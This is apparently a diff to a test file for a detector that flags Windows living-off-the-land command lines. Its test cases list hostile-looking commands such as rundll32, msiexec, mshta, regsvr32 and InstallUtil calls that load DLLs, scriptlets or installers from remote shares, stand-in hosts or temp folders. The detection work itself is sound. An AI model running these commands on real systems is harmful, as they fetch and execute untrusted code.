@@ -10,7 +10,12 @@ test.each([
   ['a share', 'rundll32 \\\\a.invalid@SSL\\x\\y.dll,Run', 'remote'],
   ['a package', 'msiexec /q /i https://a.invalid/x.msi', 'package'],
   ['a script in the line', 'mshta vbscript:close(CreateObject("WScript.Shell").Run("cmd /c dir"))', 'inline'],
-  ['a file left there', 'rundll32.exe %TEMP%\\x.dll,Start', 'dropped'],
+  ['a file that anybody may have put there', 'rundll32.exe %TEMP%\\x.dll,Start', 'planted'],
+  ['a program under another name', 'InstallUtil.exe /U C:\\Users\\Public\\x.exe', 'planted'],
+  ['a scriptlet', 'regsvr32 /s C:\\Windows\\Temp\\x.sct', 'planted'],
+  ['a file among the data of programs', 'rundll32 C:\\ProgramData\\x.dll,Run', 'planted'],
+  ['a library of somewhere', 'rundll32 C:\\stuff\\x.dll,Run', 'dropped'],
+  ['a package that was unpacked', 'msiexec /i %TEMP%\\setup\\x.msi', 'dropped'],
 ])('attack: %s', (_, command, signal) => {
   expect(titles(command)).toContain(detector.signals[signal]?.title)
 })
